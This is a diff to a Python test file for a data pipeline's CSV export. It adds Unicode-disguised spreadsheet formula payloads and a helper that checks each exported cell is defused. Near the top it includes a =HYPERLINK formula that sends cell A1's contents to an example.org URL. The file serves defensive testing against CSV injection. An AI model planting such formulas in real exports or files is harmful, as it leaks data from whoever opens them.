@@ -1,6 +1,8 @@
 import csv
+import itertools
 import json
 import random
+import unicodedata
 from collections import Counter
 from hashlib import sha256
 
@@ -12,7 +14,7 @@ from clickhouse_server import insert_consultation, insert_proposals, insert_tall
 from operators.core.errors import TerminalError
 from pipelines.exchange.polis_export import export_polis
 from pipelines.exchange.polis_import import read_polis
-from pipelines.exchange.spreadsheets import ACTIVE, is_text
+from pipelines.exchange.spreadsheets import is_text
 from pipelines.exchange.tables_export import export_tables
 from pipelines.periodic.publish import publish
 
@@ -154,8 +156,24 @@ def test_an_unknown_consultation_leaves_no_folder(clickhouse, tmp_path):
 ATTACK = '=HYPERLINK("https://example.org/?"&A1,"look")'
 FORMULAS = [
     *(ATTACK, "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "=", "-", '"=1"', "'=1", " =1", "1-1"),
-    *("a,=1", 'a";=1', "line\n=1", "-"),
+    *("a,=1", 'a";=1', "line\n=1", "\n=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)"),
+    *(
+        "  \uff1d1",
+        "\ufeff=1+1",
+        "\u200b\u2060@SUM(1)",
+        "\u3000\u00a0+1",
+        "\u2067\u00ad-1",
+        " \n \t=1",
+    ),
+    *("\u200bword", "\ufeff1\uff1d1", "  1+1", "-"),
 ]
+INVISIBLE = {"Zs", "Zl", "Zp", "Cf"}
+
+
+def is_run(cell):
+    """Whether a spreadsheet runs a cell, by Python's Unicode rather than by ClickHouse's."""
+    shown = "".join(itertools.dropwhile(lambda c: unicodedata.category(c) in INVISIBLE, cell))
+    return shown[:1] in set("=+-@\uff1d\uff0b\uff0d\uff20\t\r\n") - {""}
 
 
 @pytest.fixture(scope="module")
@@ -235,8 +253,8 @@ def test_no_cell_of_any_csv_is_run_numbers_stay_numbers_and_parquet_is_exact(
                     nulls += 1
                 elif is_text(kinds[column]):
                     assert raws[column] == value
-                    assert cell == (f"'{value}" if value[:1] in set(ACTIVE) else value)
-                    assert cell[:1] not in set(ACTIVE)
+                    assert cell == (f"'{value}" if is_run(value) else value)
+                    assert not is_run(cell)
                     defused += cell != value
                 else:
                     assert cell == raws[column]
@@ -254,9 +272,9 @@ def test_the_polis_layout_is_defused_and_raw_comes_back_as_it_was(clickhouse, fo
         with (tmp_path / "csv" / file).open(newline="") as lines:
             for row in csv.reader(lines):
                 for cell in row:
-                    assert cell[:1] not in set(ACTIVE) or cell == "-1", (file, cell)
+                    assert not is_run(cell) or cell == "-1", (file, cell)
     assert {row["comment-body"] for row in rows_of(tmp_path / "csv" / "comments.csv")} == {
-        f"'{text}" if text[:1] in set(ACTIVE) else text for text in FORMULAS
+        f"'{text}" if is_run(text) else text for text in FORMULAS
     }
     back = read_polis(tmp_path / "raw", "again")
     texts = {p["proposal_id"]: p["text"].replace("\r", "\n") for p in back.proposals}
